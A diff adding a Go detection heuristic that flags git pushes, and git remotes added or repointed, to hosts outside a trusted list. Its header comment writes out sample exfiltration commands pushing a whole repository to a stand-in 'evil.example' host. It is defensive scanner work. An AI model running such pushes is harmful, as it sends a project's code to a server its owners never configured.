@@ -1,0 +1,186 @@
+package heuristics
+
+import (
+	"strings"
+)
+
+// Exfiltration through git: the repository pushed to a server nobody
+// configured. "git push https://evil.example/x.git --all" and
+// "git remote add m https://evil.example/x.git && git push m --all" send
+// the whole code base away; a remote added or repointed to such a host,
+// without a push yet, is escalated because the next push goes there.
+// Remotes and URLs on hosts in Config.TrustedHosts, local paths and
+// loopback hosts are left alone, as are pushes to remotes configured
+// before this command line (git push origin feature).
+
+// gitRemoteDef is a remote this command line defines.
+type gitRemoteDef struct {
+	name, url, host string
+	view            int // index in cmdScan.views (an index keeps the views on the stack)
+	pushed          bool
+}
+
+// gitSubcommand returns git's subcommand and its arguments, skipping the
+// global options (-C dir, -c key=value, --git-dir=…).
+func gitSubcommand(args []string) (string, []string) {
+	for i := 0; i < len(args); i++ {
+		a := args[i]
+		switch a {
+		case "-C", "-c", "--git-dir", "--work-tree", "--namespace", "--config-env", "--super-prefix", "--exec-path":
+			if a == "--exec-path" {
+				continue // its value is optional and only given with =
+			}
+			i++
+			continue
+		}
+		if strings.HasPrefix(a, "-") {
+			continue
+		}
+		return a, args[i+1:]
+	}
+	return "", nil
+}
+
+// gitRemoteHost returns the host of a git remote URL: "https://h/x.git",
+// "ssh://git@h:22/x.git" or the scp-like "git@h:x.git". Local paths,
+// file:// URLs and loopback hosts give "".
+func gitRemoteHost(url string) string {
+	var h string
+	if strings.Contains(url, "://") {
+		h = urlHost(url)
+	} else {
+		h = remoteHost(url)
+	}
+	if h == "localhost" || h == "::1" || strings.HasPrefix(h, "127.") {
+		return ""
+	}
+	return h
+}
+
+func (s *scan) checkGitExfil(cs *cmdScan) {
+	if !s.enabled(rExfilGitPush) && !s.enabled(rExfilGitRemote) {
+		return
+	}
+	// Two passes over the views, so the everyday "git push origin x"
+	// allocates nothing: remotes this line defines, then its pushes.
+	var defs []gitRemoteDef
+	pushes := false
+	for i := range cs.views {
+		v := &cs.views[i]
+		if v.prog != "git" {
+			continue
+		}
+		sub, rest := gitSubcommand(v.args)
+		switch sub {
+		case "push":
+			pushes = true
+		case "remote":
+			verb, rest := gitSubcommand(rest) // remote's own options come first (-v)
+			if verb != "add" && verb != "set-url" || hasLongFlag(rest, "delete") {
+				continue
+			}
+			// add [-t branch] [-m master] [-f] [--mirror=…] name url
+			// set-url [--push] [--add] name newurl [oldurl]
+			if ops := operands(rest, "tm", nil); len(ops) >= 2 {
+				defs = append(defs, gitRemoteDef{name: ops[0], url: ops[1], host: gitRemoteHost(ops[1]), view: i})
+			}
+		case "config":
+			// git config [--global] remote.NAME.url URL (also pushurl)
+			ops := operands(rest, "f", []string{"--file", "--blob", "--type", "--default", "--comment"})
+			if len(ops) == 3 && ops[0] == "set" { // git config set KEY VALUE (git 2.46+)
+				ops = ops[1:]
+			}
+			if len(ops) != 2 {
+				continue
+			}
+			name, ok := gitRemoteURLKey(ops[0])
+			if !ok {
+				continue
+			}
+			defs = append(defs, gitRemoteDef{name: name, url: ops[1], host: gitRemoteHost(ops[1]), view: i})
+		}
+	}
+	for i := range cs.views {
+		v := &cs.views[i]
+		if !pushes {
+			break
+		}
+		if v.prog != "git" {
+			continue
+		}
+		if sub, _ := gitSubcommand(v.args); sub != "push" {
+			continue
+		}
+		repo := gitPushRepository(v)
+		host := ""
+		isURL := strings.Contains(repo, "://") || remoteHost(repo) != ""
+		if isURL {
+			host = gitRemoteHost(repo)
+		} else {
+			if repo == "" {
+				repo = "origin" // git push with no repository: usually origin
+			}
+			for k := range defs {
+				if defs[k].name == repo {
+					defs[k].pushed = true
+					host = defs[k].host // the last definition wins, as in git
+				}
+			}
+		}
+		if host == "" || s.an.trusted.match(host) {
+			continue
+		}
+		what := "the repository"
+		if hasLongFlag(v.args, "all") || hasLongFlag(v.args, "mirror") {
+			what = "every branch of the repository"
+		}
+		s.add(rExfilGitPush, "git push sends "+what+" to "+host+", which is not in trusted_hosts: the code leaves for a server nobody configured; push to a remote you already use, or add the host to trusted_hosts if it is yours",
+			"git "+strings.Join(v.args, " "))
+		break
+	}
+	for k := range defs {
+		d := &defs[k]
+		if d.pushed || d.host == "" || s.an.trusted.match(d.host) {
+			continue
+		}
+		s.add(rExfilGitRemote, "points the git remote "+d.name+" at "+d.host+", which is not in trusted_hosts: the next push sends the code there; confirm the host belongs to the project",
+			"git "+strings.Join(cs.views[d.view].args, " "))
+		break
+	}
+}
+
+// gitRemoteURLKey returns NAME for the config keys remote.NAME.url and
+// remote.NAME.pushurl (section and variable names ignore case).
+func gitRemoteURLKey(key string) (string, bool) {
+	const prefix = "remote."
+	if len(key) <= len(prefix) || !strings.EqualFold(key[:len(prefix)], prefix) {
+		return "", false
+	}
+	rest := key[len(prefix):]
+	for _, suffix := range []string{".url", ".pushurl"} {
+		if n := len(rest) - len(suffix); n > 0 && strings.EqualFold(rest[n:], suffix) {
+			return rest[:n], true
+		}
+	}
+	return "", false
+}
+
+// gitPushRepository returns the repository a git push names: --repo=… or
+// the first operand, "" when none is given.
+func gitPushRepository(v *cmdView) string {
+	_, rest := gitSubcommand(v.args)
+	repo := ""
+	flagValues(rest, 0, "repo", func(val string) {
+		if repo == "" {
+			repo = val
+		}
+	})
+	if repo != "" {
+		return repo
+	}
+	ops := operands(rest, "o", []string{"--push-option", "--receive-pack", "--exec", "--repo"})
+	if len(ops) == 0 {
+		return ""
+	}
+	return ops[0]
+}
